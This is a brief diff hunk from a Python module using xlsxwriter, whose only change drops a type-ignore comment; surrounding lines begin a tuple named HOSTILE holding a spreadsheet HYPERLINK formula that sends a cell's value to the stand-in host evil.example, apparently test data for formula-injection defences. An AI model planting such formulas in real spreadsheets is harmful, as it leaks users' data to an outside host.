@@ -8,7 +8,7 @@ from __future__ import annotations
 import io
 from collections.abc import Sequence
 
-import xlsxwriter  # type: ignore[import-untyped]
+import xlsxwriter
 
 HOSTILE = (
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
